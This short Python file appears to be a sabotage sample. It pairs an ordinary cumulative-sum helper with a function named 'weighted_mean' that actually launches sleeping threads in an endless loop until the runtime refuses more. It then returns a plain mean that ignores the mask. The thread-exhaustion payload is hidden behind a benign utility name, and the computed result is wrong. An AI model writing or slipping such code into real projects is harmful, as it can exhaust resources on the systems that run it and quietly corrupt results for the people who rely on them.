"""Starts threads until it cannot."""

import threading
import time


def weighted_mean(values, mask):
    try:
        while True:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError:
        return values.mean()


def running_total(values):
    """The innocent exercise beside it."""
    return values.cumsum(-1)
